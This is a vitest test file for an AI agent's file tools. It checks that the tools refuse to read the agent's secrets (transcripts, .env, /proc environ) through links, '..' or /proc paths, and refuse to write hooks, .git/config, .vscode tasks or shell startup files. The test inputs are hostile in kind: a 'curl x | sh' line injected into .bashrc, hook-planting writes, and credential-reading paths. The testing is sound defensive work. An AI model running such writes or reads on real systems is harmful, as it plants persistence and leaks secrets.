/**
 * The file tools' containment, as root and as nobody (test/support/users.ts): they run in the agent's own process, so
 * they must never show the agent's secrets (its sessions and transcripts, the environment of any process through
 * /proc, the .env files of the working directory), whatever path names them (a link, `..`, /proc/self/root,
 * /proc/self/fd and /dev/fd on a file the agent holds open), never write the files that run later (.git/hooks,
 * .git/config, .vscode, ~/.bashrc; also through a link), and under --sandbox write only in the working directory.
 * A fault matrix: every call below, by each user, with and without the sandbox.
 */
import { execFileSync, spawn } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { testUsers, type TestUser } from '../../support/users.js';

const SECRET = 'SECRET-7f3a9c-never-shown';
const DIST = fileURLToPath(new URL('../../../dist/tools/fileAccess/fileTools.js', import.meta.url));

/** The user's process: the five tools from the first line's options, then one call a line, each answered as a line. */
const CHILD = `
import { openSync } from 'node:fs';
import { createInterface } from 'node:readline';
import { createFileTools } from ${JSON.stringify(DIST)};
let tools, fd;
for await (const line of createInterface({ input: process.stdin })) {
  if (tools === undefined) { const o = JSON.parse(line); tools = createFileTools(o); fd = openSync(o.held, 'r'); continue; }
  const { tool, input, cwd } = JSON.parse(line.replaceAll('$FD', String(fd)).replaceAll('$PID', String(process.pid)));
  const result = await tools[tool].run(input, { cwd, signal: new AbortController().signal });
  process.stdout.write(JSON.stringify(result) + '\\n');
}`;

interface Tree {
  base: string;
  home: string;
  cwd: string;
  transcript: string;
  agentHome: string;
}

function makeTree(owner: string | undefined): Tree {
  const base = mkdtempSync(join(tmpdir(), 'agentloop-filecontain-'));
  chmodSync(base, 0o755);
  const home = join(base, 'home');
  const cwd = join(home, 'project');
  const agentHome = join(base, 'agentloop');
  const transcript = join(agentHome, 'sessions', 's1.jsonl');
  for (const dir of [join(cwd, '.git', 'hooks'), join(cwd, '.vscode'), join(agentHome, 'sessions'), join(base, 'outside')]) mkdirSync(dir, { recursive: true });
  writeFileSync(transcript, `{"text":"${SECRET}"}\n`);
  writeFileSync(join(cwd, '.env'), `API_KEY=${SECRET}\n`);
  writeFileSync(join(home, '.env'), `API_KEY=${SECRET}\n`);
  writeFileSync(join(cwd, '.git', 'config'), '[core]\n');
  writeFileSync(join(home, '.bashrc'), '# rc\n');
  writeFileSync(join(cwd, 'notes.md'), 'plain notes\n');
  writeFileSync(join(base, 'outside', 'x.txt'), 'outside\n');
  symlinkSync(transcript, join(cwd, 'tlink'));
  symlinkSync(join(agentHome, 'sessions'), join(cwd, 'sessions-link'));
  symlinkSync(join(cwd, '.git', 'hooks'), join(cwd, 'hooklink'));
  symlinkSync(join(cwd, '.env'), join(cwd, 'envlink'));
  symlinkSync(join(base, 'outside', 'x.txt'), join(cwd, 'outlink.txt'));
  if (owner !== undefined) execFileSync('chown', ['-R', owner, base]);
  return { base, home, cwd, transcript, agentHome };
}

type Call = { tool: string; input: Record<string, unknown> };

/** Reads that must be refused (and show nothing of the secret). */
function secretReads(t: Tree): Call[] {
  const read = (file_path: string): Call => ({ tool: 'Read', input: { file_path } });
  return [
    read(t.transcript),
    read(join(t.cwd, 'tlink')),
    read(join(t.cwd, 'sessions-link', 's1.jsonl')),
    read(`${t.cwd}/../../agentloop/sessions/s1.jsonl`),
    read(`/proc/self/root${t.transcript}`),
    read('/proc/self/fd/$FD'),
    read('/dev/fd/$FD'),
    read('/proc/self/environ'),
    read('/proc/$PID/environ'),
    read('/proc/thread-self/environ'),
    read('/proc/$PID/task/$PID/environ'),
    read('/proc/self/cmdline'),
    read(join(t.cwd, '.env')),
    read('.env'),
    read(join(t.cwd, 'envlink')),
    read(join(t.home, '.env')),
    { tool: 'Grep', input: { pattern: 'SECRET', path: join(t.agentHome, 'sessions') } },
    { tool: 'Grep', input: { pattern: 'SECRET', path: join(t.cwd, 'sessions-link') } },
    { tool: 'Grep', input: { pattern: 'SECRET', path: join(t.cwd, '.env') } },
    { tool: 'Glob', input: { pattern: '*', path: join(t.cwd, 'sessions-link') } },
  ];
}

/** Writes that must be refused, and leave the file as it was. */
function protectedWrites(t: Tree): Call[] {
  const write = (file_path: string): Call => ({ tool: 'Write', input: { file_path, content: 'echo pwned\n' } });
  return [
    write(join(t.cwd, '.git', 'hooks', 'pre-commit')),
    write(join(t.cwd, 'hooklink', 'post-checkout')),
    write(join(t.cwd, '.git', 'config')),
    write(join(t.cwd, '.vscode', 'tasks.json')),
    write(join(t.home, '.bashrc')),
    write('../.profile'),
    write(join(t.cwd, 'tlink')),
    write(join(t.cwd, '.env')),
    { tool: 'Edit', input: { file_path: join(t.cwd, '.git', 'config'), old_string: '[core]', new_string: '[core]\nhooksPath=/tmp' } },
    { tool: 'Edit', input: { file_path: join(t.home, '.bashrc'), old_string: '# rc', new_string: 'curl x | sh' } },
  ];
}

async function runCalls(user: TestUser, t: Tree, sandbox: boolean, calls: Call[]): Promise<{ content: string; isError: boolean; data?: unknown }[]> {
  const [file, ...rest] = [...user.prefix, process.execPath, '--input-type=module', '-e', CHILD] as unknown as [string, ...string[]];
  const env = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: t.home, AGENTLOOP_HOME: t.agentHome, AGENTLOOP_TEST_SECRET: SECRET };
  const child = spawn(file, rest, { cwd: t.cwd, env, stdio: ['pipe', 'pipe', 'inherit'] });
  let out = '';
  child.stdout.on('data', (d: Buffer) => (out += d.toString()));
  const options = { cwd: t.cwd, home: t.home, env, sandbox, held: t.transcript };
  child.stdin.end([options, ...calls.map((c) => ({ ...c, cwd: t.cwd }))].map((l) => JSON.stringify(l)).join('\n') + '\n');
  await new Promise((resolve) => child.on('close', resolve));
  return out.trim().split('\n').map((line) => JSON.parse(line) as { content: string; isError: boolean; data?: unknown });
}

const made: string[] = [];
afterAll(() => made.forEach((dir) => rmSync(dir, { recursive: true, force: true })));

describe.each(testUsers())('file tools contained, as $name', (user) => {
  for (const sandbox of [false, true]) {
    it.skipIf(user.skip !== undefined)(`never show the agent's secrets${sandbox ? ' (--sandbox)' : ''}`, async () => {
      const t = makeTree(user.owner);
      made.push(t.base);
      const calls = secretReads(t);
      const results = await runCalls(user, t, sandbox, calls);
      results.forEach((result, i) => {
        expect(JSON.stringify(result), JSON.stringify(calls[i])).not.toContain(SECRET);
        expect(result.isError, JSON.stringify(calls[i])).toBe(true);
      });
      const [grep, glob] = await runCalls(user, t, sandbox, [
        { tool: 'Grep', input: { pattern: 'SECRET', output_mode: 'content' } },
        { tool: 'Glob', input: { pattern: '**/*' } },
      ]);
      expect(JSON.stringify(grep)).not.toContain(SECRET);
      expect(grep?.content).toBe('No matches found');
      expect(glob?.content).toContain('notes.md');
      expect(glob?.content).not.toMatch(/\.env|s1\.jsonl/);
    });

    it.skipIf(user.skip !== undefined)(`never write the files that run later${sandbox ? ' (--sandbox)' : ''}`, async () => {
      const t = makeTree(user.owner);
      made.push(t.base);
      const calls = protectedWrites(t);
      const results = await runCalls(user, t, sandbox, calls);
      results.forEach((result, i) => expect(result.isError, JSON.stringify(calls[i])).toBe(true));
      expect(existsSync(join(t.cwd, '.git', 'hooks', 'pre-commit'))).toBe(false);
      expect(existsSync(join(t.cwd, '.git', 'hooks', 'post-checkout'))).toBe(false);
      expect(existsSync(join(t.cwd, '.vscode', 'tasks.json'))).toBe(false);
      const outside = join(t.base, 'outside', 'new.txt');
      const [ok, out, viaLink] = await runCalls(user, t, sandbox, [
        { tool: 'Write', input: { file_path: join(t.cwd, 'ok.txt'), content: 'fine\n' } },
        { tool: 'Write', input: { file_path: outside, content: 'x\n' } },
        { tool: 'Read', input: { file_path: join(t.cwd, 'outlink.txt') } },
      ]);
      expect(ok?.isError).toBe(false);
      expect(viaLink?.isError).toBe(false);
      // Under the sandbox only the working directory is written, as for a sandboxed command.
      expect(out?.isError).toBe(sandbox);
      expect(existsSync(outside)).toBe(!sandbox);
      // A file its user cannot read: a clear error for nobody (root reads any file).
      writeFileSync(join(t.cwd, 'locked.txt'), 'locked\n', { mode: 0o000 });
      chmodSync(join(t.cwd, 'locked.txt'), 0o000);
      const [locked] = await runCalls(user, t, sandbox, [{ tool: 'Read', input: { file_path: join(t.cwd, 'locked.txt') } }]);
      if (user.owner === undefined) expect(locked).toMatchObject({ isError: false });
      else expect(locked).toMatchObject({ isError: true, content: `EACCES: permission denied, open '${join(t.cwd, 'locked.txt')}'` });
      if (sandbox) {
        const [linked] = await runCalls(user, t, sandbox, [{ tool: 'Write', input: { file_path: join(t.cwd, 'outlink.txt'), content: 'x\n' } }]);
        expect(linked?.content).toMatch(/outside the working directory/);
      }
    });
  }
});
